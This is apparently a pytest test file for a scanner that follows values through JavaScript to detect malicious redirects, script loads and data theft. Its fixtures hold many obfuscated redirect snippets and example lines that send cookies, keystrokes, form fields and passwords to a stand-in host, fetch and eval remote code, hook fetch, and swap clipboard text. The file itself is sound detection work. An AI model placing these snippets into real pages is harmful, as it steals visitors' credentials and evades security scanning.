"""Reckoning: values are followed through a script, with where they come from; no script makes it fail or stay."""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.scripts import compiled, examined
from scanner.scripts.lexer import tokens
from scanner.scripts.reckoning import LONGEST, reckoned
from scanner.scripts.reckoning.account import STEPS, Spent
from scanner.scripts.reckoning.run import Run
from scanner.scripts.syntax import NotParsed, parsed
from tests.techniques.scripts.cases import table

RULES = compiled(Path(__file__).parents[2] / "signatures/yara/scripts.yar")
MOVE = [("move", "//k8.example")]


def did(code: str) -> list[tuple[str, str]]:
    return [(act.kind, act.address) for act in reckoned(code).acts]


def near(code: str) -> set[str]:
    return {each for act in reckoned(code).acts for each in act.near}


@pytest.mark.parametrize(
    "code",
    [
        "function f(a){return '//'+a.join('.')}function g(){location=f(['k8','example'])}g();               ",
        "var s='';for(var i=0;i<5;i++){s+='ELPMA'.charAt(i)}location='//k8.EX'.toLowerCase()+'ample'+(i>9?s:'')",
        "class A{#h='k8';get url(){return '//'+this.#h+'.example'}go(){location.assign(this.url)}}new A().go()",
        "function* g(){yield '//k8';yield 'example'}location.replace([...g()].join('.')); /* padding padding */",
        "var t={a:()=>'//k8.',b:function(){return this.c},c:'example'};window['loc'+'ation'].href=t.a()+t.b()",
        "var p=new Proxy(window,{get:(t,k)=>Reflect.get(t,k.slice(1))});p.xlocation.href='//k8'+'.example';     ",
        "var o='2|0|1'.split('|'),n=0,u='';while(true){switch(o[n++]){case'0':u+='8.exa';continue;case'1':u+='mple';"
        "continue;case'2':u='//k';continue}break}location=u",
        "setTimeout(['location','//k8.example'].join('=\"')+'\"',90); // put together and run by a timer          ",
        "Function('d','d.location=\"//k8.'+'example\"')(document);                                                  ",
        "(a=>b=>{location=a+b})('//k8.')(`${['ex','ample'].join``}`); /* an arrow that gives an arrow */            ",
        "var l=[[1,'example'],[0,'//k8.']].sort((a,b)=>a[0]-b[0]).map(p=>p[1]).join('');location=l                   ",
        "with(window){location='//'+atob('azguZXhhbXBsZQ==')} /* ---------------------------------------------- */",
        "try{throw '//k8.example'}catch(e){location=e} /* ------------------------------------------------------- */",
        "const {a:{b}}={a:{b:'//k8.example'}};location=b; /* ---------------------------------------------------- */",
        "const t=(s,...v)=>s.raw.map((x,i)=>x+(v[i]??'')).join('');location=t`//${'k8'}.${'exam'}ple`; /* ------- */",
        "let k=Object.getOwnPropertyNames(window).find(n=>n.length==8&&n[0]=='l');window[k].href='//k8.'+'example';",
        "var o={h:'k8',valueOf(){location='//'+this.h+'.example';return 1}};if(+o>2)document.title='x'; /* ------ */",
        "(await import('data:text/javascript,export default h=>{location=h}')).default(['//k8','example'].join('.'))",
        "class A{static #h=['k8','example'];static{location='//'+A.#h.join('.')}} /* ------------------------- */",
        "const u=new URL('https://a.test');u.host=['k8','example'].join('.');location=u.href.slice(6); /* - */",
        "JSON.parse('[\"//k8\",\"example\"]',(k,v)=>k===''?location=v.join('.'):v); /* --------------------- */",
        "try{throw Object.assign(new Error('x'),{u:'//k8.'})}catch(e){location=e.u+'example'} /* ------------ */",
        "Reflect.set(window,'location',Reflect.apply(String.prototype.concat,'//',['k8','.example'])); /* ------ */",
        "const q=new URLSearchParams('?a=%2F%2Fk8.example&b=2&a=1');location=q.get('a'); /* --------------------- */",
        "location=new URL('https://a.test/?u='+'//k8'+'.example').searchParams.get('u'); /* ------------------- */",
        "class A{static #h=['k8','example'];static get u(){return '//'+this.#h.join('.')}}location=A.u; /* ----- */",
        "Object.defineProperties(window,{a:{get:function(){return '//k8'}},b:{value:'.example'}});location=a+b; //",
        "window.location={toString:()=>'//'+['k8','example'].join('.')}; /* --------------------------------- */",
        "var o={[Symbol.toPrimitive](h){return h==='string'?'//k8.':0}};location=`${o}${'exam'}ple`; /* ------ */",
        "const o={async*[Symbol.asyncIterator](){yield '//k8.';yield 'example'}};let u='';for await(const c of o)u+=c;"
        "location=u",
        "location=new TextDecoder('utf-16').decode(new Uint8Array([47,0,47,0,107,0,56,0]))+'.'+'example'; /* -- */",
        "location=new TextDecoder().decode(new Uint8Array([1,47,47,107,56,9],1,4))+'.'+'example'; /* ---------- */",
    ],
)
def test_an_address_is_put_together(code):
    assert did(code) == MOVE


@pytest.mark.parametrize(
    ("code", "sign"),
    [
        ("var v=document.cookie;function f(x){return btoa(x)}fetch('https://k8.example/?'+f(v))", "sent-cookie"),
        ("const s=new WebSocket('wss://k8.example/');onkeyup=e=>{let k=[];k.push(e.key);s.send(k)}", "sent-keys"),
        ("var d=new FormData(document.forms[0]);navigator.sendBeacon('https://k8.example/',d)      ", "sent-fields"),
        ("var p=document.querySelector('#password');setInterval(()=>fetch('//k8.example/'+p.value))", "sent-secret"),
        ("if(!/baidu/.test(document.referrer))throw 1;location='https://k8.example/';               ", "referrer"),
        ("function f(){if(new Date().getHours()<20)return;location='https://k8.example/'}f();        ", "clock"),
        ("fetch('https://k8.example/').then(r=>r.text()).then(t=>{let f=window['ev'+'al'];f(t)})     ", "answer-run"),
        ("s='';for(i=0;i<9;i++)s+='abc'[Date.now()%3];import('https://'+s+'.k8.example/a.js'); /* --- */", "drawn"),
        ("a=localStorage;a.x&&setTimeout(a.x);fetch('https://k8.example/').then(r=>a.setItem('x',r))", "answer-run"),
        ("fetch('https://k8.example/').then(t=>{box.innerHTML='<img src onerror=\"'+t+'\">'}); /* - */", "answer-run"),
        ("function go(d){eval(d.c)}$.getScript('https://k8.example/?f=json&cb=go&t='+Math.random())  ", "answer-run"),
        ("const f=fetch;fetch=function(u,o){f('https://k8.example/',{body:o.body});return f(u,o)}     ", "hook"),
    ],
)
def test_where_it_comes_from_and_what_decides(code, sign):
    assert sign in near(code)


@pytest.mark.parametrize(
    "code",
    [
        "var c=document.cookie,n=c.length;document.title=n;fetch('https://k8.example/ping').then(show)",
        "var v=q.value;check(v);navigator.sendBeacon('https://k8.example/seen','1'); /* -------------- */",
        "if(document.referrer)count();fetch('https://k8.example/').then(r=>r.json()).then(j=>b.textContent=j.n)",
    ],
)
def test_what_does_not_reach_the_address_is_not_sent(code):
    assert not near(code) - {"unanswered", "answer-shown"}


def test_an_address_with_a_number_drawn_is_an_ordinary_one():
    assert "drawn" not in near("import('https://s'+Math.ceil(Math.random()*4)+'.k8.example/a.js'); /* ------------- */")


def test_tags_are_written_in_pieces():
    code = "var w=document;w.write('<scr');w.write('ipt src=//k8');w.write('.example/a.js></scr'+'ipt>');"
    assert did(code) == [("load", "//k8.example/a.js")]


@pytest.mark.parametrize("how", ["data.textContent", "getComputedStyle(x).getPropertyValue('--a')", "x.dataset.k"])
def test_code_kept_in_the_page_is_told(how):
    assert reckoned(f"var x=document.getElementById('x');eval(atob(x.{how.removeprefix('x.')}));           ").flows
    assert not reckoned(f"var x=document.getElementById('x');show(atob(x.{how.removeprefix('x.')}));       ").flows


def test_texts_that_are_run_written_or_copied_are_layers():
    code = "var a='docum'+'ent.write(\"<b>\"+1+\"</b>\")';eval(a);navigator.clipboard.writeText('cur'+'l k8.example')"
    assert {"<b>1</b>", 'navigator.clipboard.writeText("curl k8.example")'} <= set(reckoned(code).layers)


def test_a_long_script_is_left():
    assert not reckoned("location='//k8.example';" + " " * LONGEST).acts


ENDLESS = ["for(;;)x()", "function f(){f();f()}f()", "while(1){a.push(1)}", "var f=()=>[f(),f()];f()"]


@pytest.mark.parametrize("code", ENDLESS)
def test_work_is_bounded(code):
    run = Run(code)
    with contextlib.suppress(Spent, RecursionError):
        run.through(parsed(tokens(code)))
    assert run.account.steps <= STEPS + 1


@given(st.text(st.sampled_from("ab01.,;:(){}[]=>+-!?`$'\"/ \n&|*")).map(lambda text: f"location=[{text}" + " " * 60))
@settings(max_examples=400, deadline=None)
def test_any_text_is_taken(text):
    reckoned(text)


SETS = sorted(path.stem for path in (Path(__file__).parents[1] / "techniques/scripts").glob("*.toml"))


@pytest.mark.parametrize("name", SETS)
def test_known_scripts_are_reckoned_without_an_error_of_ours(name):
    for entry in table(name):
        for piece in {entry.get("attack", ""), entry.get("twin", ""), entry.get("html", "")}:
            for code in piece.split("<script>")[1:]:
                _through(code.partition("</script>")[0])


def _through(code: str) -> None:

    with contextlib.suppress(NotParsed, Spent, RecursionError):
        Run(code).through(parsed(tokens(code)))


@pytest.mark.parametrize("burner", ["for(var i=0;i<1e9;i++){}", "function f(){f();f()}var i=9;while(i)f();"])
def test_work_that_leads_nowhere_hides_nothing_behind_it(burner):
    code = burner + "location='//'+['k8','example'].join('.'); /* ---------------------- */"
    assert did(code) == MOVE
    assert reckoned(code).cut


def test_what_is_gone_through_to_its_end_is_not_cut():
    assert not reckoned("for(var i=0;i<9;i++){s+='x'}location='//'+['k8','example'].join('.')").cut


@pytest.mark.parametrize(("call", "told"), [("window[x+y](z)", True), ("document.title='a'.concat(x)", False)])
def test_what_was_cut_short_is_told_of_scripts_that_compute_what_they_call(call, told):
    code = "var x=q(),y=q(),z=q();for(var i=0;i<1e9;i++){z+=atob(i)}" + call + ";/* ------------------------- */"
    assert ("reckoning" in examined(code, RULES).capped) is told


LONG = "/* " + "plain words " * (LONGEST // 12) + " */"
OBSCURED = "var l=['createElement','script'],d=document,e=d[[l[0]].join('')](l[1]);e.src=['//k8','example'].join('.');"


def test_a_long_script_that_hides_what_it_calls_is_gone_through():
    assert ("load", "//k8.example") in [(act.kind, act.address) for act in examined(LONG + OBSCURED, RULES).acts]


@pytest.mark.parametrize(
    ("code", "told"),
    [
        (LONG + "for(;;)window[f(1)+g(2)](atob(x()))", True),
        (LONG * 11 + "window[f(1)+g(2)](x())", True),
        (LONG + "window[f(1)+g(2)](atob(x()))", False),
        (LONG + "for(;;)window.f(atob(x()))", False),
    ],
)
def test_of_what_hides_its_calls_the_rest_is_owned_up_to(code, told):
    assert ("reckoning" in examined(code, RULES).capped) is told


@pytest.mark.parametrize(
    "code",
    [
        "var r=document.referrer.split('/')[2];if(['www.baidu.com','m.so.com'].includes(r))location='//k8'+'.example'",
        "var r=document.referrer;if(['baidu','sogou'].some(n=>r.includes(n)))location='//k8'+'.example'   ;   ",
        "var r=document.referrer,k=['baidu','sogou'].find(n=>r.includes(n));if(k)location='//k8'+'.example/'",
    ],
)
def test_what_a_list_holds_may_be_what_is_asked(code):
    assert [kind for kind, _ in did(code)] == ["move"]


def test_what_is_called_by_a_computed_name_is_told():
    code = "var l=['createElement','script','appendChild'],w=i=>l[i],e=document[w(0)](w(1));e.src='//k8.example/a.js';"
    assert "spelt" in near(code)
    assert "spelt" not in near("var e=document['createElement']('script');e.src='//k8.example/a.js';String(0)")


LOAD = "var e=document.createElement('script');e.src='//k8'+'.example/a.js';"


@pytest.mark.parametrize(
    "code",
    [
        f"var o={{valueOf(){{{LOAD}return 1}}}};o*1",
        f"var o={{get a(){{{LOAD}return 1}}}};show(o.a)",
        f"JSON.parse('{{\"a\":1}}',function(k,v){{{LOAD}return v}})",
    ],
)
def test_what_is_done_under_cover_of_a_value_is_told(code):
    assert "coerced" in near(code)


@pytest.mark.parametrize(
    "code",
    [
        "document.addEventListener('load',{u:'//k8',handleEvent(){location=this.u+'.example'}}); /* ------------- */",
        "window.onerror=function(m){location='//'+m.split('@')[1]};throw new Error('@k8'+'.example')",
        "var h=['k8','example'].join('.');location=location.protocol+'/'+'/'+h; /* ---------------- */",
    ],
)
def test_where_a_script_goes_by_a_roundabout_way_is_known(code):
    assert did(code) == MOVE


def test_an_element_of_the_script_s_own_is_told_that_it_came_to_be():
    code = "customElements.define('x-a',class extends HTMLElement{connectedCallback(){location='//k8'+'.example'}})"
    assert did(code) == MOVE


def test_where_a_script_gives_spiders_another_text_is_told():
    code = "if(/spider|bot/.test(navigator.userAgent))document.body.innerHTML=decodeURIComponent('%61')+'b'"
    assert "retitled" in reckoned(code).flows
    assert "retitled" not in reckoned(code.replace("spider|bot", "Trident|MSIE")).flows


@pytest.mark.parametrize(
    ("style", "told"),
    [("position:absolute;opacity:0", True), ("position:absolute;opacity:.9", False), ("display:none;opacity:0", False)],
)
def test_a_link_that_is_clicked_where_nobody_sees_it_is_told(style, told):
    code = f"var a=document.createElement('a');a.href='//k8'+'.example/';a.style.cssText='{style}';"
    assert ("overlaid" in near(code)) is told


@pytest.mark.parametrize("turns", [1, 2, 3, 8])
def test_a_list_is_turned_by_one_although_its_handler_turns_it_too(turns: int) -> None:
    words = ["7a", "//k8.", "example/", *"bcdefghijk"]
    turned = words[-turns:] + words[:-turns]
    code = (
        f"(function(l,n){{while(!![]){{try{{if(parseInt(l[0])===n)break;else l.push(l.shift())}}"
        f"catch(e){{l.push(l.shift())}}}}location=l[1]+l[2]}})({turned!r},7)"
    )
    assert did(code) == [("move", "//k8.example/")]


def test_a_part_of_what_is_not_known_is_not_known() -> None:
    assert reckoned("var s=document.createElement('script');s.src=atob(document.title).slice(2);x(s,'eval')").wanting


@pytest.mark.parametrize(
    ("code", "named"),
    [
        ("e.clipboardData.setData('text/plain','领取 www.k8.example');e.preventDefault()", True),
        ("e.clipboardData.setData('text/plain',getSelection()+' www.k8.example');e.preventDefault()", False),
    ],
)
def test_a_host_in_place_of_what_was_copied(code: str, named: bool) -> None:
    script = f"document.addEventListener('copy',function(e){{{code}}});".replace("plain'", "plain'")
    assert any(kind == "copied" for kind, _ in did(script)) is named
